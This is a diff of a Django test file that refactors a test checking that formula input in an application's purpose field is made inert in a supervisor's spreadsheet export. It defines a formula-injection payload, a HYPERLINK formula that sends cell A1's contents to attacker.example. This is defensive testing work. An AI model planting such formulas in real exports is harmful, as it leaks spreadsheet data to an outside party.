@@ -9,17 +9,15 @@ from rest_framework.test import APIClient
 
 from accounts.models import User
 from core.spreadsheet import safe_cell
-from tests.workflows.conftest import catalog, submit_moving  # noqa: F401  (fixture)
-from workflows import routing
+from tests.factories import ApplicationFactory
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click for details")'
 
 
-def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(catalog, client):  # noqa: F811
-    application = submit_moving()
-    routing.advance(application_id=application.pk)
+def test_formula_in_a_reveal_purpose_is_inert_in_the_supervisors_export(demo, client):
+    application = ApplicationFactory(routed=True)
     case = application.cases.get(step="tax")
     clerk = APIClient()
     clerk.force_authenticate(User.objects.get(email="clerk.tax@demo.gov"))
